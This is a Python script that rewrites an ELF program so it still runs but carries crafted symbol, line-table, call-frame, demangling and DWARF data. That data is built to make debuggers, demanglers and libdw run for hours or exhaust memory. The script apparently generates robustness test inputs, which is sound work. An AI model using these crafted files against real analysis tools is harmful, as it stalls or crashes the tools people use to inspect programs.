#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# hostile_elf.py KIND PROGRAM OUT makes a copy of a program that runs as before but is hard to read.
# The program must have .symtab and DWARF. Kinds:
#   tails     200,000 symbols whose names are tails of one name of a megabyte
#   rows      a line table of 20 million rows, a byte each
#   cies      call frame information whose 60,000 CIEs all reach to its end
#   riddles   no DWARF, and work_a to work_c have names that libiberty would demangle for years, or into gigabytes
#   endless   a type that libdw takes an hour to step over, in one call
import os
import struct
import sys


class Elf:
    def __init__(self, path):
        self.data = bytearray(open(path, "rb").read())
        (self.table,) = struct.unpack_from("<Q", self.data, 40)
        count, names = struct.unpack_from("<HH", self.data, 60)
        (names,) = struct.unpack_from("<Q", self.data, self.table + names * 64 + 24)
        self.headers = {}
        for i in range(count):
            at = self.table + i * 64
            name = names + struct.unpack_from("<I", self.data, at)[0]
            self.headers[bytes(self.data[name : self.data.index(0, name)]).decode()] = at

    def section(self, name):
        offset, size = struct.unpack_from("<QQ", self.data, self.headers[name] + 24)
        return self.data[offset : offset + size]

    def address(self, name):
        return struct.unpack_from("<Q", self.data, self.headers[name] + 16)[0]

    def replace(self, name, data):
        self.data += bytes(-len(self.data) % 16)
        struct.pack_into("<QQ", self.data, self.headers[name] + 24, len(self.data), len(data))
        self.data += data


def tails(elf):
    name = b"\0" + b"N" * (1 << 20) + b"\0"
    start = elf.address(".text")
    symbols = bytearray(24)
    for i in range(200000):
        symbols += struct.pack("<IBBHQQ", 1 + i, 0x12, 0, 1, start + i % 4096, 16)
    elf.replace(".symtab", symbols)
    elf.replace(".strtab", name)


def rows(elf):
    table = elf.section(".debug_line")
    length, version = struct.unpack_from("<IH", table, 0)
    at = 8 if version >= 5 else 6
    code = at + 4 + struct.unpack_from("<I", table, at)[0]
    program = struct.pack("<BBBQ", 0, 9, 2, elf.address(".text")) + b"\x4b" * 20000000 + b"\0\1\1"
    fresh = bytearray(table[:code] + program)
    struct.pack_into("<I", fresh, 0, len(fresh) - 4)
    elf.replace(".debug_line", fresh)


def cies(elf):
    count, slot = 60000, 17
    end = 8 + (count + 1) * slot - 3
    frame = bytearray(struct.pack("<II", end - 4, 0))
    for i in range(count):
        frame += struct.pack("<II", end - 8 - i * slot - 4, 0)
        frame += bytes([1, 0, 1, 0x78, 16, 0x16, 0, slot - 3]) + b"\0"
    frame += bytes(end - len(frame))
    for i in range(count):
        frame += struct.pack("<II", 4, len(frame) + 4 - (8 + i * slot))
    elf.replace(".eh_frame", frame + bytes(4))


def endless(elf):
    start, size = elf.address(".text"), len(elf.section(".text"))
    abbreviations = b"\1\x11\1\x11\1\x12\7\0\0" + b"\2\4\1\0\0" + b"\3\x28\0"
    abbreviations += b"\x3f\x19" * 500000 + b"\0\0\0"
    unit = struct.pack("<HIBBQQ", 4, 0, 8, 1, start, size) + b"\2" + b"\3" * 1000000 + b"\0\0"
    elf.replace(".debug_abbrev", abbreviations)
    elf.replace(".debug_info", struct.pack("<I", len(unit)) + unit)


def substitution(n):
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return "S" + (digits[n // 36] if n >= 36 else "") + digits[n % 36] + "_"


def pack_of_pairs(levels):
    pairs = "".join("S2_I" + 2 * substitution(3 + i) + "E" for i in range(levels))
    return "_Z1fIDp1CI1A1BIS1_S1_E" + pairs + "EEvv"


def tuple_of_tuples(levels):
    name = "_D1a1fF" + "B2" * levels + "i"
    for i in range(levels, 0, -1):
        back = len(name) - len("_D1a1fF") - 2 * i
        name += "Q" + (chr(65 + back // 26) if back >= 26 else "") + chr(97 + back % 26)
    return name + "Zv"


def riddles(elf):
    names = {"work_a": pack_of_pairs(60), "work_b": tuple_of_tuples(60), "work_c": "_D1a1fF" + "C1aF" * 100 + "Zv"}
    symbols, strings = bytearray(elf.section(".symtab")), bytearray(elf.section(".strtab"))
    for at in range(0, len(symbols), 24):
        text = struct.unpack_from("<I", symbols, at)[0]
        old = bytes(strings[text : strings.index(0, text)]).decode()
        if old in names:
            struct.pack_into("<I", symbols, at, len(strings))
            strings += names[old].encode() + b"\0"
    elf.replace(".symtab", symbols)
    elf.replace(".strtab", strings)
    elf.replace(".debug_info", b"")


kinds = {"tails": tails, "rows": rows, "cies": cies, "riddles": riddles, "endless": endless}
if len(sys.argv) != 4 or sys.argv[1] not in kinds:
    sys.exit("usage: hostile_elf.py " + "|".join(kinds) + " PROGRAM OUT")
program = Elf(sys.argv[2])
kinds[sys.argv[1]](program)
with open(sys.argv[3], "wb") as out:
    out.write(program.data)
os.chmod(sys.argv[3], 0o755)
